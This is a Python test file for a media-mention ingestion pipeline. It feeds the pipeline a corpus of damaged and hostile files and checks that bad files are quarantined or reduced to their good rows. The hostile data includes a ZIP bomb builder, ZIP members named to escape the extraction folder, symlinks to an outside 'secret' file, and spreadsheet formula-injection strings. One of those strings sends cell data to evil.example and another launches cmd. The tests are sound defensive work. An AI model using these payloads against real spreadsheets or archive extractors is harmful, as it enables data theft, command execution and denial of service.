"""A corpus of broken and hostile files: per file, what the product does (file status, rows
loaded, rows set aside and why, in words a user understands); the run goes on, and every good
row of every other file loads. `café` survives every encoding; a ZIP member named `../x.csv` or
`/x.csv` is never written outside the real extraction folder."""

from __future__ import annotations

import csv
import io
import logging
import os
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import pytest
from exports import GENERIC_HEADER, csv_text, write_xlsx

from ingestion.load import ingest_media
from ingestion.safe_export import write_csv

GOOD = {
    "date": "2025-03-01 07:45",
    "title": "Jembatan baru diresmikan",
    "outlet": "Antara Kalsel",
    "issue": "Infrastruktur",
    "sentiment": "positif",
    "reach": "1.500",
}
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"]


def good_rows(tag: str, n: int = 2) -> list[dict[str, str]]:
    """``n`` valid rows whose titles name the file they belong to."""
    return [{**GOOD, "title": f"{tag} baris {i}"} for i in range(n)]


def generic_csv(tag: str, bad: list[dict[str, str]], n_good: int = 2) -> bytes:
    return csv_text(
        GENERIC_HEADER, good_rows(tag, n_good) + [{**GOOD, "title": f"{tag} rusak", **b} for b in bad]
    ).encode()


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def bomb(member: str) -> bytes:
    """64 MB of zeros packed into a few dozen kB."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open(member, "w", force_zip64=True) as fh:
            block = b"0" * (1 << 20)
            for _ in range(64):
                fh.write(block)
    return buf.getvalue()


def utf16_truncated() -> bytes:
    text = csv_text(GENERIC_HEADER, good_rows("utf16 terpotong café", 3), delimiter="\t").encode("utf-16")
    return text[: len(text) - 41]  # cut in the middle of the last row and of a code unit


def mixed_encodings() -> bytes:
    head = csv_text(GENERIC_HEADER, good_rows("campuran utf8", 1)).encode("utf-8")
    tail = csv_text(GENERIC_HEADER, [{**GOOD, "title": "campuran cp1252 Pembangunan café"}]).split("\r\n", 1)[1]
    return head + tail.encode("cp1252")


def many_members() -> bytes:
    return zip_bytes({f"part_{i:03d}.csv": generic_csv(f"bagian {i}", []) for i in range(250)}, zipfile.ZIP_STORED)


def duplicated_columns() -> bytes:
    header = GENERIC_HEADER + ["title", "reach"]
    rows = [{**r} for r in good_rows("kolom ganda")]
    return csv_text(header, rows).encode()


UNKNOWN = (
    "{}: unknown export layout; closest profile is 'brandwatch' (Brandwatch mentions export (XLSX/CSV), "
    "header below report metadata rows.), which needs the columns: Query Name, Date, Title, Url, Sentiment"
)
BROKEN_ZIP = "{}: not a readable ZIP/XLSX archive (damaged or cut off); download it again"
# words of the engine or the machine that a user must never read in a message
INTERNALS = ("Error:", "Exception", "Traceback", "/tmp/", "citra-", "duckdb", "Invalid Input", "sniff", "zip file")


@dataclass(frozen=True)
class Expect:
    """What the product does with one file."""

    status: str  # loaded | quarantined
    message: str = ""  # the whole message ({} is the file name)
    titles: tuple[str, ...] = ()  # titles of the rows loaded, in file order
    rejects: tuple[tuple[int, str, str], ...] = ()  # (row, column, reason)


def titles(tag: str, n: int = 2) -> tuple[str, ...]:
    return tuple(f"{tag} baris {i}" for i in range(n))


def quarantined(message: str) -> Expect:
    return Expect("quarantined", message)


def damaged(row: int, loaded: tuple[str, ...], reason: str) -> Expect:
    """A text export with one damaged line: the other rows load, the line is set aside by row."""
    return Expect(
        "loaded",
        f"{{}}: 1 damaged line set aside (row {row}); see raw.ingest_rejects",
        loaded,
        ((row, "line", reason),),
    )


NUL_LINE = "the line holds a NUL byte: the file was damaged (in a download or on a share)"
STRAY_QUOTE = (
    'a quote (") opened in this line does not close as a cell spanning lines (a stray quote?); '
    "the line was set aside and the lines after it loaded"
)


Case = tuple[Callable[[], bytes], Expect]
CORPUS: dict[str, Case] = {
    "empty.csv": (lambda: b"", quarantined("{}: the file is empty")),
    "blank_lines.csv": (lambda: b"\r\n\r\n   \r\n", quarantined("{}: the file is empty")),
    "bom_only.csv": (lambda: b"\xef\xbb\xbf", quarantined("{}: the file is empty")),
    "header_only.csv": (lambda: csv_text(GENERIC_HEADER, []).encode(), Expect("loaded")),
    "garbage.csv": (lambda: bytes(range(256)) * 64, quarantined("{}: binary content, not a CSV or text export")),
    "pdf_named_csv.csv": (
        lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\x00\x00",
        quarantined("{}: binary content, not a CSV or text export"),
    ),
    # a stray NUL costs its own line only; the file is text, not binary
    "nul_in_text.csv": (
        lambda: generic_csv("nul", []).replace(b"baris 1", b"baris\x001"),
        damaged(3, titles("nul", 1), NUL_LINE),
    ),
    # cut in the middle of the last row (and of a code unit): the cut-off row is set aside, not
    # loaded with its last columns empty
    "truncated_utf16.csv": (
        utf16_truncated,
        damaged(
            4,
            titles("utf16 terpotong café"),
            "the line holds bytes that are not text in the file's encoding: the file was damaged",
        ),
    ),
    "mixed_encodings.csv": (
        mixed_encodings,
        Expect("loaded", titles=("campuran utf8 baris 0", "campuran cp1252 Pembangunan café")),
    ),
    "single_10mb_line.csv": (lambda: b"x," * (5 * 2**20), quarantined(UNKNOWN)),
    "ten_mb_cell.csv": (
        lambda: generic_csv("sel besar", [{"title": "y" * (10 * 2**20)}]),
        damaged(4, titles("sel besar"), "the line is longer than 2 MB: not a row of an export"),
    ),
    "zip_bomb.zip": (
        lambda: bomb("kliping.csv"),
        quarantined("{}: compression ratio 1,029:1 looks like a ZIP bomb; refused"),
    ),
    "xlsx_bomb.xlsx": (
        lambda: bomb("xl/worksheets/sheet1.xml"),
        quarantined("{}: compression ratio 1,029:1 looks like a ZIP bomb; refused"),
    ),
    "too_many_members.zip": (
        many_members,
        quarantined("{}: 250 files inside, more than the cap of 200 (CITRA_MAX_ZIP_MEMBERS)"),
    ),
    "truncated.zip": (
        lambda: zip_bytes({"a.csv": generic_csv("zip terpotong", [])})[:60],
        quarantined(BROKEN_ZIP),
    ),
    "no_data_inside.zip": (
        lambda: zip_bytes({"readme.md": b"# nothing"}),
        quarantined("{}: the ZIP holds no CSV or XLSX file"),
    ),
    "zip_with_one_bad_member.zip": (
        lambda: zip_bytes({"ok.csv": generic_csv("zip campur", []), "bad.csv": b"\x00\x01\x02"}),
        Expect("loaded", "{}/bad.csv: binary content, not a CSV or text export", titles("zip campur")),
    ),
    "not_really.xlsx": (
        lambda: b"PK\x03\x04 this is not a workbook",
        quarantined(BROKEN_ZIP),
    ),
    "random_bytes.xlsx": (
        lambda: os.urandom(4096),
        quarantined(BROKEN_ZIP),
    ),
    "wrong_vendor.csv": (
        lambda: csv_text(["Tanggal Rapat", "Peserta", "Notulen"], [{"Peserta": "12"}]).encode(),
        quarantined(UNKNOWN),
    ),
    "preamble_only.csv": (lambda: b"Laporan Monitoring Media\r\nPeriode: Maret 2025\r\n", quarantined(UNKNOWN)),
    "duplicated_columns.csv": (duplicated_columns, Expect("loaded", titles=titles("kolom ganda"))),
    "future_dates.csv": (
        lambda: generic_csv("masa depan", [{"date": "2099-01-01 10:00"}]),
        Expect(
            "loaded",
            titles=titles("masa depan"),
            rejects=(
                (
                    4,
                    "date",
                    "date '2099-01-01 10:00' is in the future (after 2026-01-16, tomorrow in WITA); "
                    "check the date format or the export",
                ),
            ),
        ),
    ),
    "before_2000.csv": (
        lambda: generic_csv("lampau", [{"date": "1970-01-01 08:00"}, {"date": "1999-12-31"}]),
        Expect(
            "loaded",
            titles=titles("lampau"),
            rejects=(
                (4, "date", "date '1970-01-01 08:00' is before 2000-01-01; check the date format or the export"),
                (5, "date", "date '1999-12-31' is before 2000-01-01; check the date format or the export"),
            ),
        ),
    ),
    "negative_counts.csv": (
        lambda: generic_csv("negatif", [{"reach": "-20"}, {"engagement": "-1"}]),
        Expect(
            "loaded",
            titles=titles("negatif"),
            rejects=((4, "reach", "reach -20 is negative"), (5, "engagement", "engagement -1 is negative")),
        ),
    ),
    "absurd_counts.csv": (
        lambda: generic_csv(
            "mustahil",
            [{"reach": "99999999999999999999"}, {"engagement": "5000000000000"}, {"reach": "2.000.000.000.000.000"}],
        ),
        Expect(
            "loaded",
            titles=titles("mustahil"),
            rejects=(
                (4, "reach", "reach 99999999999999999999 is not plausible (more than 10^12)"),
                (5, "engagement", "engagement 5000000000000 is not plausible (more than 10^12)"),
                (6, "reach", "reach 2.000.000.000.000.000 is not plausible (more than 10^12)"),
            ),
        ),
    ),
    "formula_strings.csv": (
        lambda: (
            generic_csv("rumus", [], 0)
            + csv_text(GENERIC_HEADER, [{**GOOD, "title": f, "outlet": f} for f in FORMULAS])
            .split("\r\n", 1)[1]
            .encode()
        ),
        Expect("loaded", titles=tuple(FORMULAS)),
    ),
    # the good rows load and the broken last row is set aside: the damaged file loses only its
    # damaged line (issue 11, item 5), where it used to be quarantined whole with the sniffer's text
    "unterminated_quote.csv": (
        lambda: generic_csv("kutip", []) + b'2025-03-02 10:00,"Judul tanpa akhir,x,y\r\n',
        damaged(4, titles("kutip"), STRAY_QUOTE),
    ),
    "semicolon_sep_line.csv": (
        lambda: b"sep=;\r\n" + csv_text(GENERIC_HEADER, good_rows("sep café"), delimiter=";").encode(),
        Expect("loaded", titles=titles("sep café")),
    ),
    "utf16_be.csv": (
        lambda: b"\xfe\xff" + csv_text(GENERIC_HEADER, good_rows("utf16be café")).encode("utf-16-be"),
        Expect("loaded", titles=titles("utf16be café")),
    ),
    "utf16_le_tab.csv": (
        lambda: csv_text(GENERIC_HEADER, good_rows("utf16le café"), delimiter="\t").encode("utf-16"),
        Expect("loaded", titles=titles("utf16le café")),
    ),
    "utf8_bom.csv": (
        lambda: csv_text(GENERIC_HEADER, good_rows("utf8 bom café")).encode("utf-8-sig"),
        Expect("loaded", titles=titles("utf8 bom café")),
    ),
    "cp1252.csv": (
        lambda: csv_text(GENERIC_HEADER, good_rows("Pembangunan café")).encode("cp1252"),
        Expect("loaded", titles=titles("Pembangunan café")),
    ),
}
# every encoding case: the é of café must arrive as é, never as Ã© or ?
ENCODINGS = [
    "truncated_utf16.csv",
    "mixed_encodings.csv",
    "semicolon_sep_line.csv",
    "utf16_be.csv",
    "utf16_le_tab.csv",
    "utf8_bom.csv",
    "cp1252.csv",
    "formula_cells.xlsx",
]


def xlsx_cases(landing: Path) -> dict[str, Expect]:
    """Workbooks are written by openpyxl itself, so they are real XLSX files."""
    write_xlsx(landing / "empty_sheet.xlsx", [], [])
    write_xlsx(
        landing / "formula_cells.xlsx",
        GENERIC_HEADER,
        [
            {**GOOD, "title": "xlsx baris café"},
            {**GOOD, "title": '=HYPERLINK("http://evil.example","klik")', "url": "", "date": "2025-03-02 09:00"},
        ],
    )
    return {
        "empty_sheet.xlsx": quarantined(UNKNOWN),
        # a formula cell has no value of its own (Excel's cache is empty): the row has no title
        "formula_cells.xlsx": Expect(
            "loaded",
            titles=("xlsx baris café",),
            rejects=((3, "title/url", "no title and no URL: nothing identifies the mention"),),
        ),
    }


@dataclass
class Run:
    home: Path
    expected: dict[str, Expect]
    outcomes: dict = field(default_factory=dict)
    warnings: list[str] = field(default_factory=list)

    def query(self, sql: str, params: list | None = None) -> list[tuple]:
        with duckdb.connect(str(self.home / "warehouse.duckdb"), read_only=True) as con:
            return con.execute(sql, params or []).fetchall()


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    home = tmp_path_factory.mktemp("hostile")
    landing = home / "landing" / "media"
    landing.mkdir(parents=True)
    (landing / "good.csv").write_bytes(generic_csv("berkas baik", [], 3))
    expected = {name: expect for name, (_, expect) in CORPUS.items()}
    expected["good.csv"] = Expect("loaded", titles=titles("berkas baik", 3))
    for name, (build, _) in CORPUS.items():
        (landing / name).write_bytes(build())
    expected.update(xlsx_cases(landing))
    outside = home / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_bytes(generic_csv("rahasia server", []))
    (landing / "link_to_secret.csv").symlink_to(outside / "secret.csv")
    (landing / "linked_folder").symlink_to(outside, target_is_directory=True)
    handler = _Capture()
    logging.getLogger("ingestion").addHandler(handler)
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("CITRA_TODAY", "2026-01-15")  # the day the future rule judges by
            report = ingest_media(home / "warehouse.duckdb", landing, home / "quarantine")
    finally:
        logging.getLogger("ingestion").removeHandler(handler)
    return Run(home, expected, {o.name: o for o in report.outcomes}, handler.messages)


class _Capture(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.WARNING)
        self.messages: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.messages.append(record.getMessage())


def test_the_corpus_holds_at_least_thirty_hostile_files(hostile_run: Run) -> None:
    assert len(hostile_run.expected) - 1 + 2 >= 30  # without good.csv, plus the two links


NAMES = [*CORPUS, "empty_sheet.xlsx", "formula_cells.xlsx", "good.csv"]


@pytest.mark.parametrize("name", NAMES)
def test_each_file_gets_its_status_its_rows_and_its_reasons(hostile_run: Run, name: str) -> None:
    expect = hostile_run.expected[name]
    outcome = hostile_run.outcomes[name]
    loaded = [
        r[0]
        for r in hostile_run.query(
            """select m.title from raw.media_mentions m join raw.ingest_files f on f.file_id = m.source_file_id
               where f.file_name = ? order by m.source_row""",
            [name],
        )
    ]
    rejects = hostile_run.query(
        "select source_row, column_name, reason from raw.ingest_rejects where file_name like ? order by source_row",
        [name + "%"],
    )
    registered = hostile_run.query(
        "select status, rows_loaded, rows_rejected from raw.ingest_files where file_name = ?", [name]
    )
    assert outcome.status == expect.status
    assert outcome.message == expect.message.format(name)
    assert not any(word in outcome.message for word in INTERNALS)
    assert (hostile_run.home / "quarantine" / name).exists() == (expect.status == "quarantined")
    if expect.status == "quarantined":
        assert (loaded, rejects, registered) == ([], [], [("quarantined", None, None)])
        return
    assert tuple(loaded) == expect.titles
    assert [(row, column, reason) for row, column, reason in rejects] == list(expect.rejects)
    assert registered == [("loaded", len(expect.titles), len(expect.rejects))]
    assert (outcome.rows_loaded, outcome.rows_rejected) == (len(expect.titles), len(expect.rejects))


@pytest.mark.parametrize("name", ENCODINGS)
def test_cafe_survives_each_encoding(hostile_run: Run, name: str) -> None:
    titles_loaded = [
        r[0]
        for r in hostile_run.query(
            """select m.title from raw.media_mentions m join raw.ingest_files f on f.file_id = m.source_file_id
               where f.file_name = ? and m.title like '%caf%'""",
            [name],
        )
    ]
    assert titles_loaded and all("café" in t for t in titles_loaded), titles_loaded


def test_links_and_paths_outside_landing_are_never_read(hostile_run: Run) -> None:
    assert not any("link" in name for name in hostile_run.outcomes)
    assert any("link_to_secret.csv: symbolic links are never followed" in w for w in hostile_run.warnings)
    assert (hostile_run.home / "outside" / "secret.csv").exists()
    leaked = hostile_run.query("select count(*) from raw.media_mentions where title like 'rahasia%'")[0][0]
    assert leaked == 0


def test_zip_members_named_to_escape_stay_inside_the_real_extraction_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """ZIPs are extracted under the system's temp folder: point it deep inside tmp_path, so that
    every place a `../` or absolute member name would reach if it became a path is watched."""
    temp = tmp_path / "a" / "b" / "tmp"
    temp.mkdir(parents=True)
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    landing = tmp_path / "landing"
    landing.mkdir()
    members = {
        "../escaped_1.csv": generic_csv("keluar satu", []),  # would land in temp itself
        "../../../escaped_2.csv": generic_csv("keluar dua", []),  # in tmp_path/a
        "../../../../escaped_3.csv": generic_csv("keluar tiga", []),  # in tmp_path
        f"{tmp_path}/absolute/escaped_4.csv": generic_csv("keluar empat", []),
    }
    (landing / "licik.zip").write_bytes(zip_bytes(members))
    report = ingest_media(tmp_path / "warehouse.duckdb", landing, tmp_path / "quarantine")
    assert [(o.status, o.rows_loaded) for o in report.outcomes] == [("loaded", 8)]
    assert sorted(p.name for p in tmp_path.rglob("escaped_*")) == []
    assert list(temp.iterdir()) == []  # the extraction folder is gone, nothing left beside it
    with duckdb.connect(str(tmp_path / "warehouse.duckdb"), read_only=True) as con:
        loaded = {r[0] for r in con.execute("select title from raw.media_mentions").fetchall()}
    assert loaded == {f"keluar {n} baris {i}" for n in ("satu", "dua", "tiga", "empat") for i in range(2)}


def test_formula_strings_are_kept_as_text_in_the_warehouse_and_neutralized_on_export(
    hostile_run: Run, tmp_path: Path
) -> None:
    rows = hostile_run.query(
        "select title, outlet from raw.media_mentions where source_file_id = "
        "(select file_id from raw.ingest_files where file_name = 'formula_strings.csv') "
        "order by source_row"
    )
    assert [r[0] for r in rows] == FORMULAS
    with write_csv(tmp_path / "annex.csv", ["title", "outlet"], rows).open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in list(csv.reader(fh))[1:] for cell in row]
    assert cells == ["'" + f for f in FORMULAS for _ in range(2)]
